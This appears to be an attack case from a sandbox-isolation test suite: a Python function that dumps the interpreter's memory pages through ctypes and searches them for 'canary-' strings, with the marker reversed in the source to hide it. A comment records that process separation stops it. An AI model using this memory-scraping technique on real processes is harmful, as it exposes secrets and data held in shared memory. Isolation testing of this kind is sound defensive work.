"""Reads the memory pages around its own objects by ctypes: what else lies in the arenas of the interpreter."""
# stopped by: process split
import ctypes
import gc

NEEDLE = b"-yranac"[::-1]


def attack():
    pages = {id(item) & ~4095 for container in gc.get_objects() for item in gc.get_referents(container)}
    found = set()
    for page in pages:
        data = ctypes.string_at(page, 4096)
        at = data.find(NEEDLE)
        while at >= 0:
            found.add(data[at : at + 80].split(b"\0")[0].decode("latin-1"))
            at = data.find(NEEDLE, at + 1)
    return "\n".join(text for text in found if len(text) > 20)
